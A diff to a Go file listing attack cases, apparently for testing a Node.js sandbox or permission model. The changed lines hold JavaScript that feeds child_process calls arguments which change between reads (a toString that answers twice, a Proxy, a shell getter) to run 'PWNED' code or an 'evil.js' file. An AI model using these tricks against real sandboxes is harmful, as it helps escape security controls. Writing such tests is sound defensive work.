@@ -112,7 +112,7 @@ var starters = []attack{
 		await wait(500)`},
 	{name: "arguments that answer twice", kinds: "", code: `
 		const c = require('child_process'); const twice = (a, b, k) => { let n = 0; return { toString: () => n++ < k ? a : b }; };
-		for (let k = 0; k < 4; k++) for (const make of [() => [twice('fine.js', '-e', k), 'console.log("PWNED")'], () => new Proxy(['fine.js'], { get: (t, p) => p === '0' ? (k-- > 0 ? 'fine.js' : evil + 'evil.js') : t[p] })]) for (const start of [() => c.spawnSync(process.execPath, make(), { timeout: 20000 }).stdout, () => c.execFileSync(process.execPath, make(), { timeout: 20000 }), () => c.fork(here + '/fine.js', [], { execArgv: make(), timeout: 20000 })]) try { console.log(String(start())); } catch (e) { say(e); }
+		for (let k = 0; k < 4; k++) for (const make of [() => [twice('fine.js', '-e', k), 'console.log("PWNED")'], () => { let left = k; return new Proxy(['fine.js'], { get: (t, p) => p === '0' ? (left-- > 0 ? 'fine.js' : evil + 'evil.js') : t[p] }); }]) for (const start of [() => c.spawnSync(process.execPath, make(), { timeout: 20000 }).stdout, () => c.execFileSync(process.execPath, make(), { timeout: 20000 }), () => c.fork(here + '/fine.js', [], { execArgv: make(), timeout: 20000 })]) try { console.log(String(start())); } catch (e) { say(e); }
 		let m = 0; try { console.log(String(c.spawnSync('fine.js', ['x'], { get shell() { return m++ ? process.execPath : false; } }).stdout)); } catch (e) { say(e); }`},
 	{name: "a signal that opens the inspector of a child that starts", kinds: "", code: `
 		const c = require('child_process'); let opened = false;
